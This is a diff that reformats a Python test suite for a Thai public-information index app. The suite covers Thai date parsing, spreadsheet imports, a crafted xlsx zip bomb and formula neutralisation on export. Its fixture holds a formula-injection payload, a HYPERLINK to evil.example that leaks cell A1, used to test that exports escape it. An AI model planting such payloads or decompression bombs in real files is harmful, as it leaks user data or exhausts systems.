@@ -47,15 +47,28 @@ GOOD = [
     ("7(5)", "", "7(5)", "", None, False),
     ("7(2)", "15 สิงหา 64", "7(2)", "", date(2021, 8, 15), False),
     ("ม.7(3)", "๑๕ ส.ค. ๒๕๖๔", "7(3)", "", date(2021, 8, 15), False),
-    ("แผนงาน โครงการ และงบประมาณรายจ่ายประจำปีของปีที่กำลังดำเนินการ", "29/04/63", "9(3)", "", date(2020, 4, 29),
-     False),
+    (
+        "แผนงาน โครงการ และงบประมาณรายจ่ายประจำปีของปีที่กำลังดำเนินการ",
+        "29/04/63",
+        "9(3)",
+        "",
+        date(2020, 4, 29),
+        False,
+    ),
     ("ข้อมูลข่าวสารอื่นตามที่คณะกรรมการกำหนด", "29 Apr 2020", "9(8)", "", date(2020, 4, 29), False),
     ("สัญญาสัมปทาน", "1 กรกฏาคม 2560", "9(6)", "", date(2017, 7, 1), True),
     ("9(8).1", "5 มีนาคม ค.ศ. 2021", "9(8).1", "", date(2021, 3, 5), False),
     ("๙(๘).๒", "2020-04-29", "9(8).2", "", date(2020, 4, 29), False),
     (" 9 ( 2 ) ", " 1/1/2563 ", "9(2)", "", date(2020, 1, 1), False),
     ("Section 9(6)", "30 ธันวาคม 2563", "9(6)", "", date(2020, 12, 30), False),
-    ("มาตรา 9(1) ผลการพิจารณา", "1 ม.ค. 99", "9(1)", "", date(2056, 1, 1), True),  # 2599: in the future
+    (
+        "มาตรา 9(1) ผลการพิจารณา",
+        "1 ม.ค. 99",
+        "9(1)",
+        "",
+        date(2056, 1, 1),
+        True,
+    ),  # 2599: in the future
     ("๙(๑)", "1 ก.พ 2563", "9(1)", "", date(2020, 2, 1), False),
     ("9 (4)", "ณ วันที่ 2 มี.ค. 2563", "9(4)", "", date(2020, 3, 2), False),
     ("มาตรา 9(8)-1", "2 เมษายน 2563", "9(8)", "มาตรา 9(8)-1", date(2020, 4, 2), True),
@@ -193,33 +206,51 @@ def test_every_corpus_row_reads_right_in_every_format(app, make_office, fmt):
             text = str(errors[bad_rows[j]])
             assert text.startswith(f"แถวที่ {bad_rows[j]}: ") and message in text, text
             assert f"(คอลัมน์ {column})" in text, text
-        assert set(plan.unknown["category"]) == {"หมวดอื่น ๆ", "ข้อมูลทั่วไป", "9(12)"}  # to map in the preview
+        assert set(plan.unknown["category"]) == {
+            "หมวดอื่น ๆ",
+            "ข้อมูลทั่วไป",
+            "9(12)",
+        }  # to map in the preview
 
 
 def test_headers_in_english_or_thai_variants_in_any_order(app):
     data = "Date,Subject,Section,Reference\n1 ม.ค. 63,เรื่องหนึ่ง,9(1),ก 1\n".encode()
-    table = read_table(data, "x.csv", {"title": ("ชื่อเรื่อง", "เรื่อง", "subject"), "date": ("วันที่", "date"),
-                                       "ref": ("เลขที่", "reference")})
+    table = read_table(
+        data,
+        "x.csv",
+        {
+            "title": ("ชื่อเรื่อง", "เรื่อง", "subject"),
+            "date": ("วันที่", "date"),
+            "ref": ("เลขที่", "reference"),
+        },
+    )
     assert table.rows[0].cells == {"date": "1 ม.ค. 63", "title": "เรื่องหนึ่ง", "ref": "ก 1"}
     data = " ชื่อเรื่อง : ,เลขที่ หนังสือ,ประเภท,วันที่\nเรื่อง,ก 2,9(2),\n".encode()
     with app.app_context():
         rows = read_rows(data, "x.csv")
-    assert rows[0].cells["title"] == "เรื่อง" and rows[0].cells["ref"] == "ก 2" and rows[0].cells["category"] == "9(2)"
+    assert (
+        rows[0].cells["title"] == "เรื่อง"
+        and rows[0].cells["ref"] == "ก 2"
+        and rows[0].cells["category"] == "9(2)"
+    )
 
 
-@pytest.mark.parametrize("text,expected,notes", [
-    ("13 ต.ค. 66", date(2023, 10, 13), 0),
-    ("14 ม.ค.62", date(2019, 1, 14), 0),
-    ("ลงวันที่ 5 มิถุนายน 2563", date(2020, 6, 5), 0),
-    ("วันที่ ๑๑ เดือน มกราคม พ.ศ. ๒๕๖๕", date(2022, 1, 11), 0),
-    ("ประกาศ ณ วันที่ 3 ก.พ. พ.ศ.๒๕๖๒".split("ประกาศ ")[1], date(2019, 2, 3), 0),
-    ("12 ม.ย. 63", date(2020, 6, 12), 1),
-    ("2025-11-10T10:04:15", date(2025, 11, 10), 0),
-    ("2025-11-10T20:04:15Z", date(2025, 11, 11), 0),  # 03:04 the next day in Bangkok
-    ("5 มกราคม 2022", date(2022, 1, 5), 0),
-    ("5 ม.ค. ค.ศ. 2022", date(2022, 1, 5), 0),
-    ("1 ม.ค. 99", date(2056, 1, 1), 1),
-])
+@pytest.mark.parametrize(
+    "text,expected,notes",
+    [
+        ("13 ต.ค. 66", date(2023, 10, 13), 0),
+        ("14 ม.ค.62", date(2019, 1, 14), 0),
+        ("ลงวันที่ 5 มิถุนายน 2563", date(2020, 6, 5), 0),
+        ("วันที่ ๑๑ เดือน มกราคม พ.ศ. ๒๕๖๕", date(2022, 1, 11), 0),
+        ("ประกาศ ณ วันที่ 3 ก.พ. พ.ศ.๒๕๖๒".split("ประกาศ ")[1], date(2019, 2, 3), 0),
+        ("12 ม.ย. 63", date(2020, 6, 12), 1),
+        ("2025-11-10T10:04:15", date(2025, 11, 10), 0),
+        ("2025-11-10T20:04:15Z", date(2025, 11, 11), 0),  # 03:04 the next day in Bangkok
+        ("5 มกราคม 2022", date(2022, 1, 5), 0),
+        ("5 ม.ค. ค.ศ. 2022", date(2022, 1, 5), 0),
+        ("1 ม.ค. 99", date(2056, 1, 1), 1),
+    ],
+)
 def test_date_reading(text, expected, notes):
     reading = read_thai_date(text, today=date(2026, 12, 7))
     assert reading.date == expected and len(reading.notes) == notes
@@ -255,7 +286,10 @@ def test_cli_dry_run_prints_the_grouped_preview(app, runner, make_office, tmp_pa
     assert result.exit_code != 0  # errors: nothing imported
     out = result.output
     good_rows, _bad = _row_numbers()
-    assert f"2 แถว: หมวด “มาตรา 9 (3) แผนงาน” อ่านเป็น 9(3) (คอลัมน์ มาตรา) — แถวที่ {good_rows[5]}, {good_rows[6]}" in out
+    assert (
+        f"2 แถว: หมวด “มาตรา 9 (3) แผนงาน” อ่านเป็น 9(3) (คอลัมน์ มาตรา) — แถวที่ {good_rows[5]}, {good_rows[6]}"
+        in out
+    )
     assert "1 แถว: เดือน “ม.ย.” อ่านเป็น มิถุนายน (คอลัมน์ ลงวันที่)" in out
     assert "เก็บ “9(8)-2” ไว้ตามที่เขียน" in out
     assert "ข้อผิดพลาด 8 จุด ใน 8 แถว" in out and "ยังไม่ได้นำเข้าข้อมูลใด ๆ" in out
@@ -268,8 +302,12 @@ def test_cli_map_file_saved_and_used_by_later_imports(app, runner, make_office, 
     path = tmp_path / "index.xlsx"
     path.write_bytes(as_xlsx(corpus_rows()))
     mapping = tmp_path / "map.csv"
-    mapping.write_text("ค่าในไฟล์,ใช้เป็น\nหมวดอื่น ๆ,9(8)\nข้อมูลทั่วไป,๙(๘)\n".replace("๙(๘)", "9(8)"), encoding="utf-8")
-    result = runner.invoke(args=["index", "import", str(path), "--map", str(mapping), "--save-map", "--skip-bad"])
+    mapping.write_text(
+        "ค่าในไฟล์,ใช้เป็น\nหมวดอื่น ๆ,9(8)\nข้อมูลทั่วไป,๙(๘)\n".replace("๙(๘)", "9(8)"), encoding="utf-8"
+    )
+    result = runner.invoke(
+        args=["index", "import", str(path), "--map", str(mapping), "--save-map", "--skip-bad"]
+    )
     assert result.exit_code == 0, result.output
     assert f"นำเข้าแล้ว {len(GOOD) + 2} รายการ (NSW) ข้าม 6 แถวที่มีข้อผิดพลาด" in result.output
     with app.app_context():
@@ -289,12 +327,16 @@ def test_staff_preview_maps_values_then_imports_the_good_rows(app, client, login
     office_id = _office(app, make_office)
     login_as("clerk", office_id=office_id)
     data = as_csv(corpus_rows(), "utf-8-sig")
-    page = client.post("/staff/index/import", data={"file": (io.BytesIO(data), "ดัชนี.csv"), "office_id": office_id},
-                       content_type="multipart/form-data").get_data(as_text=True)
+    page = client.post(
+        "/staff/index/import",
+        data={"file": (io.BytesIO(data), "ดัชนี.csv"), "office_id": office_id},
+        content_type="multipart/form-data",
+    ).get_data(as_text=True)
     assert "หมวด “มาตรา 9 (3) แผนงาน” อ่านเป็น 9(3)" in page and "จับคู่หมวดที่อ่านไม่ได้" in page
     assert f"นำเข้าเฉพาะ {len(GOOD)} รายการที่ถูกต้อง (ข้าม 8 แถวที่มีข้อผิดพลาด)" in page
-    page = client.post("/staff/index/import/map", data={"value": ["หมวดอื่น ๆ", "ข้อมูลทั่วไป"],
-                                                        "target": ["9(8)", ""]}).get_data(as_text=True)
+    page = client.post(
+        "/staff/index/import/map", data={"value": ["หมวดอื่น ๆ", "ข้อมูลทั่วไป"], "target": ["9(8)", ""]}
+    ).get_data(as_text=True)
     assert f"นำเข้าเฉพาะ {len(GOOD) + 1} รายการที่ถูกต้อง (ข้าม 7 แถวที่มีข้อผิดพลาด)" in page
     assert "หมวด “หมวดอื่น ๆ” → 9(8) (ตามที่จับคู่ไว้)" in page
     response = client.post("/staff/index/import/confirm")
@@ -302,8 +344,9 @@ def test_staff_preview_maps_values_then_imports_the_good_rows(app, client, login
     with app.app_context():
         assert db.session.scalar(select(func.count(IndexEntry.id))) == len(GOOD) + 1
         assert db.session.scalar(select(func.count(ImportMapping.id))) == 1
-        section7 = db.session.scalar(select(func.count(IndexEntry.id)).join(Category)
-                                     .where(Category.code.like("7(%")))
+        section7 = db.session.scalar(
+            select(func.count(IndexEntry.id)).join(Category).where(Category.code.like("7(%"))
+        )
         assert section7 == sum(1 for g in GOOD if g[2].startswith("7"))
         entry = db.session.scalar(select(IndexEntry).where(IndexEntry.agency_code == "9(4) – 3"))
     page = client.get(f"/staff/index/{entry.id}").get_data(as_text=True)
@@ -323,33 +366,51 @@ def _xlsx_with_sheet(sheet_xml_chunks, compress=zipfile.ZIP_DEFLATED) -> bytes:
     """A minimal workbook whose first sheet is written from chunks (so it can be huge)."""
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", compress) as z:
-        z.writestr("[Content_Types].xml", (
-            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
-            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
-            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
-            '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
-            'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxml'
-            'formats-officedocument.spreadsheetml.worksheet+xml"/></Types>'))
-        z.writestr("_rels/.rels", (
-            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
-            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
-            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'))
-        z.writestr("xl/workbook.xml", (
-            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
-            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
-            'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'))
-        z.writestr("xl/_rels/workbook.xml.rels", (
-            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
-            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
-            'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'))
+        z.writestr(
+            "[Content_Types].xml",
+            (
+                '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+                'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+                'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
+                '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
+                'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxml'
+                'formats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
+            ),
+        )
+        z.writestr(
+            "_rels/.rels",
+            (
+                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+                'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+                'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
+            ),
+        )
+        z.writestr(
+            "xl/workbook.xml",
+            (
+                '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
+                'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
+            ),
+        )
+        z.writestr(
+            "xl/_rels/workbook.xml.rels",
+            (
+                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+                'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+                'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
+            ),
+        )
         with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
             for chunk in sheet_xml_chunks:
                 sheet.write(chunk.encode())
     return buf.getvalue()
 
 
-SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
-              'spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>')
+SHEET_HEAD = (
+    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+    'spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
+)
 SHEET_TAIL = "</sheetData></worksheet>"
 
 
@@ -367,6 +428,7 @@ def _measured(call):
 
 def test_a_crafted_xlsx_bomb_is_refused_before_parsing(app):
     """A small file that unpacks to hundreds of MB: refused from the sizes the zip declares."""
+
     def chunks():
         yield SHEET_HEAD
         row = '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
@@ -378,26 +440,37 @@ def test_a_crafted_xlsx_bomb_is_refused_before_parsing(app):
     assert len(data) < 2_000_000
     with app.app_context():
         errors = []
-        seconds, peak = _measured(lambda: errors.append(pytest.raises(SpreadsheetError, read_rows, data, "bomb.xlsx")))
+        seconds, peak = _measured(
+            lambda: errors.append(pytest.raises(SpreadsheetError, read_rows, data, "bomb.xlsx"))
+        )
         assert "เมื่อขยายแล้วใหญ่เกิน" in str(errors[0].value)
         assert seconds < 2 and peak < 20 * 1024 * 1024
 
 
-def test_a_million_row_sheet_is_refused_quickly_in_bounded_memory(app, client, login_as, make_office):
+def test_a_million_row_sheet_is_refused_quickly_in_bounded_memory(
+    app, client, login_as, make_office
+):
     """An honest 1,048,576-row sheet (declaring every column too) is refused at the row limit."""
+
     def chunks():
         yield SHEET_HEAD
-        yield '<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c><c r="B1" t="inlineStr"><is><t>' \
-              'category</t></is></c><c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>'
+        yield (
+            '<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c><c r="B1" t="inlineStr"><is><t>'
+            'category</t></is></c><c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>'
+        )
         for start in range(2, 1_048_577, 4096):
-            yield "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>9</v></c></row>'
-                          for r in range(start, min(start + 4096, 1_048_577)))
+            yield "".join(
+                f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>9</v></c></row>'
+                for r in range(start, min(start + 4096, 1_048_577))
+            )
         yield SHEET_TAIL
 
     data = _xlsx_with_sheet(chunks())
     with app.app_context():
         caught = []
-        seconds, peak = _measured(lambda: caught.append(pytest.raises(SpreadsheetError, read_rows, data, "big.xlsx")))
+        seconds, peak = _measured(
+            lambda: caught.append(pytest.raises(SpreadsheetError, read_rows, data, "big.xlsx"))
+        )
         assert "ไฟล์มีมากกว่า 50,000 แถว กรุณาแบ่งเป็นหลายไฟล์" in str(caught[0].value)
         assert seconds < 20 and peak < 150 * 1024 * 1024
     office = make_office("NSW")
@@ -429,12 +502,17 @@ def test_limits_come_from_settings_and_time_is_bounded(app):
 
 
 @pytest.mark.parametrize("path", ["/staff/index/import", "/counter/import"])
-def test_a_csv_cell_over_131072_characters_is_a_message_not_a_500(app, client, login_as, make_office, path):
+def test_a_csv_cell_over_131072_characters_is_a_message_not_a_500(
+    app, client, login_as, make_office, path
+):
     office = make_office("NSW")
     login_as("clerk", office_id=office)
     if path == "/counter/import":
-        data = ("วันที่,ประเภทผู้ใช้บริการ,วัตถุประสงค์,หมายเหตุ\n1/1/2563,ประชาชน,ตรวจดูข้อมูล,"
-                + "ก" * 200_000 + "\n").encode()
+        data = (
+            "วันที่,ประเภทผู้ใช้บริการ,วัตถุประสงค์,หมายเหตุ\n1/1/2563,ประชาชน,ตรวจดูข้อมูล,"
+            + "ก" * 200_000
+            + "\n"
+        ).encode()
         response = _post_file(client, path, data, "r.csv")
     else:
         data = ("ref,title,category\n1," + "ก" * 200_000 + ",9(1)\n").encode()
@@ -446,28 +524,73 @@ def test_a_csv_cell_over_131072_characters_is_a_message_not_a_500(app, client, l
 # --- exports (issue 21.4) and round trips ------------------------------------------------------
 
 
-FORMULAS = {"ref": "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")", "title": "+ชื่อเรื่องที่ขึ้นต้นด้วยบวก",
-            "summary": "@SUM(1+1)", "keywords": "-1+2;\tแท็บ", "location": "\rตู้"}
+FORMULAS = {
+    "ref": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
+    "title": "+ชื่อเรื่องที่ขึ้นต้นด้วยบวก",
+    "summary": "@SUM(1+1)",
+    "keywords": "-1+2;\tแท็บ",
+    "location": "\rตู้",
+}
 
 
 def test_exports_neutralise_formulas_and_round_trip(app, runner, make_office, tmp_path):
     office_id = _office(app, make_office)
     with app.app_context():
         cats = {c.code: c for c in db.session.scalars(select(Category))}
-        db.session.add(IndexEntry(office_id=office_id, category_id=cats["9(1)"].id, state="published",
-                                  ref=FORMULAS["ref"], title=FORMULAS["title"], summary=FORMULAS["summary"],
-                                  keywords="-1+2", location="=ตู้", doc_date=date(2020, 1, 2)))
-        db.session.add(IndexEntry(office_id=office_id, category_id=cats["7(1)"].id, state="published",
-                                  title="โครงสร้างสำนักงาน", agency_code="7(1)-2", doc_date=date(2021, 3, 4)))
-        db.session.add(IndexEntry(office_id=office_id, category_id=cats["9(8).1"].id, state="draft",
-                                  title="สขร.๑ เดือนมกราคม", disclosure="partial", withheld_ground="15(5)"))
+        db.session.add(
+            IndexEntry(
+                office_id=office_id,
+                category_id=cats["9(1)"].id,
+                state="published",
+                ref=FORMULAS["ref"],
+                title=FORMULAS["title"],
+                summary=FORMULAS["summary"],
+                keywords="-1+2",
+                location="=ตู้",
+                doc_date=date(2020, 1, 2),
+            )
+        )
+        db.session.add(
+            IndexEntry(
+                office_id=office_id,
+                category_id=cats["7(1)"].id,
+                state="published",
+                title="โครงสร้างสำนักงาน",
+                agency_code="7(1)-2",
+                doc_date=date(2021, 3, 4),
+            )
+        )
+        db.session.add(
+            IndexEntry(
+                office_id=office_id,
+                category_id=cats["9(8).1"].id,
+                state="draft",
+                title="สขร.๑ เดือนมกราคม",
+                disclosure="partial",
+                withheld_ground="15(5)",
+            )
+        )
         db.session.commit()
 
     def snapshot():
         with app.app_context():
-            return sorted((e.ref, e.title, e.category.code, e.doc_date, e.summary, e.keywords, e.location,
-                           e.disclosure, e.withheld_ground, e.state, e.office.code, e.agency_code)
-                          for e in db.session.scalars(select(IndexEntry)))
+            return sorted(
+                (
+                    e.ref,
+                    e.title,
+                    e.category.code,
+                    e.doc_date,
+                    e.summary,
+                    e.keywords,
+                    e.location,
+                    e.disclosure,
+                    e.withheld_ground,
+                    e.state,
+                    e.office.code,
+                    e.agency_code,
+                )
+                for e in db.session.scalars(select(IndexEntry))
+            )
 
     before = snapshot()
     for fmt in ("csv", "xlsx"):
@@ -475,7 +598,9 @@ def test_exports_neutralise_formulas_and_round_trip(app, runner, make_office, tm
         assert runner.invoke(args=["index", "export", "--format", fmt, str(out)]).exit_code == 0
         if fmt == "csv":
             text = out.read_text(encoding="utf-8-sig")
-            assert "'=HYPERLINK" in text and "'+ชื่อเรื่อง" in text and "'@SUM" in text and "'-1+2" in text
+            assert (
+                "'=HYPERLINK" in text and "'+ชื่อเรื่อง" in text and "'@SUM" in text and "'-1+2" in text
+            )
             assert ",=" not in text and ",+" not in text
         else:
             book = load_workbook(out)
@@ -524,7 +649,9 @@ def test_register_import_reads_visitor_types_through_stored_mappings(app, runner
     assert result.exit_code != 0 and "ไม่รู้จักประเภทผู้ใช้บริการ “ชาวบ้านทั่วไป”" in result.output
     mapping = tmp_path / "types.csv"
     mapping.write_text(f"ค่าในไฟล์,ใช้เป็น\nชาวบ้าน ทั่วไป,{name}\n", encoding="utf-8")
-    result = runner.invoke(args=["index", "mappings", "--kind", "visitor_type", "--load", str(mapping)])
+    result = runner.invoke(
+        args=["index", "mappings", "--kind", "visitor_type", "--load", str(mapping)]
+    )
     assert result.exit_code == 0 and "บันทึกการจับคู่ 1 ค่า" in result.output, result.output
     result = runner.invoke(args=["counter", "import", str(register)])
     assert result.exit_code == 0, result.output
@@ -544,10 +671,24 @@ def test_printed_index_shows_section7_in_its_own_group(app, make_office, tmp_pat
     office_id = _office(app, make_office)
     with app.app_context():
         cats = {c.code: c.id for c in db.session.scalars(select(Category))}
-        db.session.add(IndexEntry(office_id=office_id, category_id=cats["7(1)"], title="แผนภูมิโครงสร้างสำนักงาน",
-                                  state="published", doc_date=date(2020, 10, 1)))
-        db.session.add(IndexEntry(office_id=office_id, category_id=cats["9(8)"], title="สรุปผลจัดซื้อเดือนพฤษภาคม",
-                                  state="published", agency_code="9(8)-2"))
+        db.session.add(
+            IndexEntry(
+                office_id=office_id,
+                category_id=cats["7(1)"],
+                title="แผนภูมิโครงสร้างสำนักงาน",
+                state="published",
+                doc_date=date(2020, 10, 1),
+            )
+        )
+        db.session.add(
+            IndexEntry(
+                office_id=office_id,
+                category_id=cats["9(8)"],
+                title="สรุปผลจัดซื้อเดือนพฤษภาคม",
+                state="published",
+                agency_code="9(8)-2",
+            )
+        )
         db.session.commit()
         out = tmp_path / "index.pdf"
         build_index_pdf(str(out), office=db.session.get(Office, office_id))
